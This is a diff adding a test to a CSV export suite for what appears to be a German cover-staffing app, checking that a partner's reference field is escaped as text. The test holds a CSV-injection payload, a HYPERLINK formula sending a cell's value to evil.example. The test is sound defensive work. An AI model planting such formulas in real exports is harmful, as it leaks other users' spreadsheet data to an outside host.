@@ -123,6 +123,21 @@ describe("the cover ledger", () => {
     const csvText = (await csv(world.offerers[0]!.coordinator)).data;
     expect(csvText).toContain("Kooperationsvereinbarung vom 01.03.2026");
   });
+
+  it("writes a formula set by the partner Träger as text in the other Träger's file", async () => {
+    const formula = '=HYPERLINK("https://evil.example/?x="&A1;"Vertrag")';
+    const saved = await callRoute(
+      ledgerAction,
+      await requestAs(database, world.requester.coordinator, "/vertretungen/bilanz?index", {
+        form: { intent: "agreement", offerId: given, reference: formula },
+      }),
+    );
+    expect(saved.status).toBe(302);
+    const lines = (await csv(world.offerers[0]!.coordinator)).data.slice(1).trim().split("\r\n").slice(1);
+    expect(lines.length).toBeGreaterThan(0);
+    // The last cell of each line, quoted, starting with an apostrophe: text, not a formula.
+    for (const line of lines) expect(line.endsWith(`;"'${formula.replace(/"/g, '""')}"`)).toBe(true);
+  });
 });
 
 describe("the cover alert preferences", () => {
